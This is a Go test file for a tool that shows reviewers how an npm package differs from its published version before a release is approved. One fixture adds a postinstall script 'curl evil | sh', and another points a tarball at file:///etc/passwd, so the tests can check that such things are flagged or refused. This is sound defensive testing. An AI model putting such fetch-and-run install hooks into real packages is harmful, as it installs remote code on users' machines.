package main

// What a human may read before a yes: how a package differs from its latest
// published version. The registry is a server of this process.

import (
	"archive/tar"
	"bytes"
	"compress/gzip"
	"context"
	"crypto/sha512"
	"encoding/base64"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/continuousauth/action/internal/wire"
)

// pack makes a package's tarball of name and content by turns.
func pack(t testing.TB, files ...string) []byte {
	t.Helper()
	var b bytes.Buffer
	z := gzip.NewWriter(&b)
	w := tar.NewWriter(z)
	for i := 0; i < len(files); i += 2 {
		if err := w.WriteHeader(&tar.Header{Name: "package/" + files[i], Typeflag: tar.TypeReg, Mode: 0o644, Size: int64(len(files[i+1]))}); err != nil {
			t.Fatal(err)
		}
		if _, err := io.WriteString(w, files[i+1]); err != nil {
			t.Fatal(err)
		}
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	if err := z.Close(); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

func manifest(name, version string, scripts map[string]string) string {
	data, err := json.Marshal(map[string]any{"name": name, "version": version, "scripts": scripts})
	if err != nil {
		panic(err)
	}
	return string(data)
}

// npmRegistry serves one package's latest version; spoil may change what it says.
func npmRegistry(t testing.TB, name string, packed []byte, spoil func(map[string]any)) string {
	t.Helper()
	var s *httptest.Server
	s = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if h := r.Header.Get("Authorization"); h != "" {
			t.Errorf("credentials were shown: %q", h)
		}
		switch r.URL.EscapedPath() {
		case "/" + strings.ReplaceAll(name, "/", "%2f") + "/latest":
			sum := sha512.Sum512(packed)
			dist := map[string]any{"tarball": s.URL + "/t.tgz", "integrity": "sha512-" + base64.StdEncoding.EncodeToString(sum[:])}
			v := map[string]any{"version": "1.3.9", "dist": dist}
			if spoil != nil {
				spoil(v)
			}
			if err := json.NewEncoder(w).Encode(v); err != nil {
				t.Error(err)
			}
		case "/t.tgz":
			_, _ = w.Write(packed)
		default:
			http.NotFound(w, r)
		}
	}))
	t.Cleanup(s.Close)
	return s.URL
}

func onDisk(t testing.TB, packed []byte) tarball {
	t.Helper()
	path := filepath.Join(t.TempDir(), "x.tgz")
	if err := os.WriteFile(path, packed, 0o600); err != nil {
		t.Fatal(err)
	}
	b, err := readTarball(path)
	if err != nil {
		t.Fatal(err)
	}
	return b
}

func TestADifferenceNamesEachFileAndWhatRunsByItself(t *testing.T) {
	t.Parallel()
	const name = "@acme/widgets"
	old := pack(t, "package.json", manifest(name, "1.3.9", map[string]string{"install": "node-gyp", "prepare": "x", "test": "a"}), "lib/index.js", "one", "lib/old.js", "gone", "README.md", "same")
	now := pack(t, "package.json", manifest(name, "1.4.0", map[string]string{"install": "node-gyp rebuild", "postinstall": "curl evil | sh", "test": "b"}), "lib/index.js", "three", "lib/new.js", "hello", "README.md", "same", "a\nb", "")
	text, err := difference(t.Context(), http.DefaultClient, npmRegistry(t, name, old, nil)+"/", onDisk(t, now))
	if err != nil {
		t.Fatal(err)
	}
	want := `@acme/widgets 1.4.0 against 1.3.9, which is the latest published:
! the script install was "node-gyp" and is "node-gyp rebuild"
! the script postinstall is new: "curl evil | sh"
! the script prepare is gone
1 files as they were, 2 new, 2 changed, 1 gone
+ a<U+000A>b (0 bytes)
+ lib/new.js (5 bytes)
~ lib/index.js (3 -> 5 bytes)
~ package.json (`
	if !strings.HasPrefix(text, want) || !strings.HasSuffix(text, "\n- lib/old.js") {
		t.Errorf("got\n%s\nwant\n%s…", text, want)
	}
}

func TestWhatIsNotPublishedIsAllNew(t *testing.T) {
	t.Parallel()
	now := onDisk(t, pack(t, "package.json", manifest("rocket", "0.1.0", nil), "a.js", ""))
	text, err := difference(t.Context(), http.DefaultClient, npmRegistry(t, "other", nil, nil), now)
	if err != nil || text != "rocket is not published yet, so all its 2 files are new" {
		t.Errorf("%q, %v", text, err)
	}
}

func TestARegistryThatLiesIsComparedWithNothing(t *testing.T) {
	t.Parallel()
	good := pack(t, "package.json", manifest("rocket", "1.3.9", nil))
	now := onDisk(t, pack(t, "package.json", manifest("rocket", "1.4.0", nil)))
	dist := func(v map[string]any) map[string]any { return v["dist"].(map[string]any) }
	for name, tc := range map[string]struct {
		packed []byte
		spoil  func(map[string]any)
		want   string
	}{
		"another tarball":        {good, func(v map[string]any) { dist(v)["integrity"] = "sha512-AAAA" }, "is not the one"},
		"no tarball":             {good, func(v map[string]any) { delete(v, "dist") }, "cannot be read"},
		"a tarball nowhere":      {good, func(v map[string]any) { dist(v)["tarball"] = "file:///etc/passwd" }, "no address"},
		"a tarball missing":      {good, func(v map[string]any) { dist(v)["tarball"] = dist(v)["tarball"].(string) + "x" }, "cannot be fetched"},
		"a tarball that is none": {[]byte("hello"), nil, "latest version's tarball: "},
		"no version":             {good, func(v map[string]any) { v["version"] = "" }, "cannot be read"},
		"a flood":                {good, func(v map[string]any) { v["readme"] = strings.Repeat("x", maxPackument) }, "does not answer"},
	} {
		if text, err := difference(t.Context(), http.DefaultClient, npmRegistry(t, "rocket", tc.packed, tc.spoil), now); err == nil || !strings.Contains(err.Error(), tc.want) {
			t.Errorf("%s: %q, %v", name, text, err)
		}
	}
	for _, registry := range []string{"", "registry.npmjs.org", "file:///", "http://127.0.0.1:1"} {
		if text, err := difference(t.Context(), http.DefaultClient, registry, now); err == nil {
			t.Errorf("%q: %q", registry, text)
		}
	}
}

// A small file that unpacks to more than a disk holds must not hold up a release.
func TestATarballIsReadWithinBounds(t *testing.T) {
	t.Parallel()
	many := make([]string, 0, 2*(maxEntries+1))
	for i := range maxEntries + 1 {
		many = append(many, fmt.Sprint(i), "")
	}
	if _, err := contentsOf(bytes.NewReader(pack(t, many...)), maxUnpacked); err == nil || !strings.Contains(err.Error(), "files") {
		t.Errorf("too many files: %v", err)
	}
	if c, err := contentsOf(bytes.NewReader(pack(t, many[:2*100]...)), maxUnpacked); err != nil || len(c.files) != 100 {
		t.Errorf("a hundred files: %v", err)
	}
	bomb := pack(t, "bomb", strings.Repeat("\x00", 1<<20))
	if len(bomb) > 4<<10 {
		t.Fatalf("the bomb has %d bytes", len(bomb))
	}
	if _, err := contentsOf(bytes.NewReader(bomb), 1<<20); err == nil || !strings.Contains(err.Error(), "unpacks to more") {
		t.Errorf("a bomb: %v", err)
	}
	if c, err := contentsOf(bytes.NewReader(bomb), 2<<20); err != nil || c.files["bomb"].size != 1<<20 {
		t.Errorf("no bomb: %v", err)
	}
}

func TestDetailsAlwaysFitTheirEnvelope(t *testing.T) {
	t.Parallel()
	key, err := wire.NewConnectKey()
	if err != nil {
		t.Fatal(err)
	}
	sign, err := wire.NewSigningKey()
	if err != nil {
		t.Fatal(err)
	}
	for _, text := range []string{"", "short", strings.Repeat("+ lib/x.js\n", 2000), strings.Repeat("<>&\n", 3000), strings.Repeat("\x01\n", 4000), strings.Repeat("x", 7000), "\xff\n", strings.Repeat("長い\n", 1500)} {
		cut := fit(text)
		a := &wire.Alive{Key: wire.PublicKey(key), Attempt: 1, Reason: wire.ReasonFirst, Nonce: make([]byte, 16), Connect: wire.PublicKey(key), Responder: wire.PublicKey(sign), Details: cut, Link: "https://a.example/" + strings.Repeat("x", wire.MaxLink-18)}
		if _, err := wire.Sign(a, key); err != nil {
			t.Errorf("%.20q: %v", text, err)
		}
		if len(text) < 1000 && strings.ToValidUTF8(text, "\uFFFD") != cut {
			t.Errorf("%q was cut to %q", text, cut)
		}
	}
	if cut := fit(strings.Repeat("+ lib/x.js\n", 2000)); !strings.HasSuffix(cut, " more lines)") || len(cut) < wire.MaxDetails/2 {
		t.Errorf("cut to %d bytes: %q", len(cut), cut[len(cut)-40:])
	}
}

func TestWhatNobodyOpensAsksNoRegistry(t *testing.T) {
	t.Parallel()
	asked := make(chan struct{}, 10)
	registry := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
		asked <- struct{}{}
		w.WriteHeader(http.StatusNotFound)
	}))
	t.Cleanup(registry.Close)
	file := approvable{tarball: onDisk(t, pack(t, "package.json", manifest("rocket", "1.4.0", nil))), Artifact: wire.Artifact{Package: "rocket", Version: "1.4.0"}}
	details := offer(t.Context(), func(v string) string { return map[string]string{"NPM_CONFIG_REGISTRY": registry.URL}[v] }, []approvable{file})
	select {
	case <-asked:
		t.Fatal("the registry was asked before anybody opened the prompt")
	case <-time.After(200 * time.Millisecond):
	}
	for range 2 {
		if text := details(t.Context()); !strings.Contains(text, "not published yet") {
			t.Errorf("%q", text)
		}
	}
	if n := len(asked); n != 1 {
		t.Errorf("asked %d times", n)
	}
}

func TestAnOpeningDoesNotWaitForASlowRegistry(t *testing.T) {
	t.Parallel()
	const name = "rocket"
	old := pack(t, "package.json", manifest(name, "1.3.9", nil))
	hold := make(chan struct{})
	registry := npmRegistry(t, name, old, func(map[string]any) { <-hold })
	file := approvable{tarball: onDisk(t, pack(t, "package.json", manifest(name, "1.4.0", nil), "new.js", "")), Artifact: wire.Artifact{Package: name, Version: "1.4.0"}}
	details := offer(t.Context(), func(v string) string { return map[string]string{"NPM_CONFIG_REGISTRY": registry}[v] }, []approvable{file, {}})
	soon, cancel := context.WithTimeout(t.Context(), 10*time.Millisecond)
	defer cancel()
	if text := details(soon); !strings.Contains(text, "not there yet") {
		t.Errorf("%q", text)
	}
	close(hold)
	for range 2 { // each opening has it
		if text := details(t.Context()); !strings.Contains(text, "+ new.js") {
			t.Errorf("%q", text)
		}
	}
	none := offer(t.Context(), func(string) string { return "" }, []approvable{{}})
	if text := none(t.Context()); !strings.Contains(text, "nothing to compare") {
		t.Errorf("%q", text)
	}
}

func TestATarballsOwnWordsAreItsPackageAndVersion(t *testing.T) {
	t.Parallel()
	dir := t.TempDir()
	for name, data := range map[string][]byte{
		"acme-widgets-1.4.0.tgz": pack(t, "package.json", manifest("@acme/widgets", "1.4.0", nil)),
		"plain.tgz":              []byte("no tarball"),
	} {
		if err := os.WriteFile(filepath.Join(dir, name), data, 0o600); err != nil {
			t.Fatal(err)
		}
	}
	files, err := approvables([]string{filepath.Join(dir, "*.tgz"), filepath.Join(dir, "plain.tgz")})
	if err != nil || len(files) != 2 {
		t.Fatalf("%+v, %v", files, err)
	}
	if f := files[0]; f.Name != "acme-widgets-1.4.0.tgz" || f.Package != "@acme/widgets" || f.Version != "1.4.0" || f.SHA256.String() != f.tarball.sha256 {
		t.Errorf("%+v", f)
	}
	if f := files[1]; f.Name != "plain.tgz" || f.Package != "" || f.Size != 10 {
		t.Errorf("%+v", f)
	}
}

// FuzzContents: whatever a tarball is, reading it ends, and ends within bounds.
func FuzzContents(f *testing.F) {
	good := pack(f, "package.json", manifest("rocket", "1.0.0", map[string]string{"install": "x"}), "a.js", "b")
	f.Add(good)
	f.Add(good[:len(good)/2])
	f.Add([]byte("hello"))
	f.Add([]byte{})
	f.Fuzz(func(t *testing.T, data []byte) {
		c, err := contentsOf(bytes.NewReader(data), 1<<20)
		if err != nil {
			return
		}
		if text := fit(inLines("x", c, c)); strings.Contains(text, "\n+") || strings.Contains(text, "\n~") || strings.Contains(text, "\n!") {
			t.Fatalf("a tarball differs from itself:\n%s", text)
		}
	})
}

// npm keeps the last of two files with one name; whoever is shown the first would
// agree to another package than the one that is published.
func TestATarballThatCouldBeReadInTwoWaysIsRefused(t *testing.T) {
	t.Parallel()
	tarred := func(headers ...tar.Header) string {
		t.Helper()
		var b bytes.Buffer
		z := gzip.NewWriter(&b)
		w := tar.NewWriter(z)
		for i, h := range headers {
			body := manifest(fmt.Sprintf("n%d", i), "1.0.0", nil)
			if h.Mode = 0o644; h.Typeflag == 0 {
				h.Typeflag, h.Size = tar.TypeReg, int64(len(body))
			}
			if err := w.WriteHeader(&h); err != nil {
				t.Fatal(err)
			}
			if h.Size > 0 {
				if _, err := io.WriteString(w, body); err != nil {
					t.Fatal(err)
				}
			}
		}
		if err := errors.Join(w.Close(), z.Close()); err != nil {
			t.Fatal(err)
		}
		path := filepath.Join(t.TempDir(), "x.tgz")
		if err := os.WriteFile(path, b.Bytes(), 0o600); err != nil {
			t.Fatal(err)
		}
		return path
	}
	first := tar.Header{Name: "package/package.json"}
	for _, second := range []tar.Header{
		first, {Name: "other/package.json"}, {Name: "./package.json"}, {Name: "package//package.json"}, {Name: "package/./package.json"}, {Name: "package/x/../package.json"},
		{Name: "package/Package.JSON"}, {Name: `package\package.json`}, {Name: "/package.json"},
		{Name: "package/package.json", Typeflag: tar.TypeSymlink, Linkname: "x"}, {Name: "package/package.json", Typeflag: tar.TypeLink, Linkname: "package/x"}, {Name: "package/package.json/", Typeflag: tar.TypeDir},
	} {
		for order, headers := range [][]tar.Header{{first, second}, {second, first}} {
			path := tarred(headers...)
			if got, err := readTarball(path); !errors.Is(err, errManifests) {
				t.Errorf("%q, %d: %s, %v", second.Name, order, got.name, err)
			}
			if files, err := approvables([]string{path}); err == nil || !strings.Contains(err.Error(), "more than one package.json") {
				t.Errorf("%q, %d: would be approved: %+v, %v", second.Name, order, files, err)
			}
		}
	}
	// What is no package.json of the package's own is none.
	for _, other := range []string{"package.json", "package/x/package.json", "package/package.json.bak", "package/node_modules/a/package.json"} {
		if got, err := readTarball(tarred(first, tar.Header{Name: other})); err != nil || got.name != "n0" {
			t.Errorf("%q: %s, %v", other, got.name, err)
		}
	}
	for _, only := range []tar.Header{{Name: "package.json"}, {Name: "package/Package.json"}, {Name: "package/package.json", Typeflag: tar.TypeSymlink, Linkname: "x"}} {
		if got, err := readTarball(tarred(only)); err == nil {
			t.Errorf("%q: %s", only.Name, got.name)
		}
	}
}

// Keys are told apart by case, as npm does, and the last of two counts.
func TestAPackageIsWhatNpmReadsOfIt(t *testing.T) {
	t.Parallel()
	for text, want := range map[string]string{
		`{"name":"real","version":"1.0.0","Name":"fake","VERSION":"9.9.9","PublishConfig":{"registry":"https://fake.example"}}`:     "real 1.0.0 false  ",
		`{"name":"fake","version":"1.0.0","name":"real","private":true,"publishConfig":{"registry":"https://r.example","a":[1]}}`:   "real 1.0.0 true https://r.example ",
		`{"name":"@a/real","version":"1.0.0","publishConfig":{"@a:registry":"https://own.example","registry":"https://r.example"}}`: "@a/real 1.0.0 false https://r.example https://own.example",
		`{"name":"real","version":"1.0.0","publishConfig":{"registry":7}}`:                                                          "real 1.0.0 false  ",
		`{"Name":"fake","version":"1.0.0"}`:                 "",
		`{"name":"real"}`:                                   "",
		`{"name":["real"],"version":"1.0.0"}`:               "",
		`{"name":"real","version":"1.0.0","private":"yes"}`: "",
		`[]`:   "",
		`null`: "",
		`{"name":"real","version":"1.0.0"} {"name":"fake"}`:   "",
		`{"name":"real","version":"1.0.0","publishConfig":7}`: "",
	} {
		var b tarball
		err := b.describe([]byte(text))
		if got := fmt.Sprintf("%s %s %t %s %s", b.name, b.version, b.private, b.registry, b.scope); (err == nil) != (want != "") || err == nil && got != want {
			t.Errorf("%s: %q, %v", text, got, err)
		}
	}
}
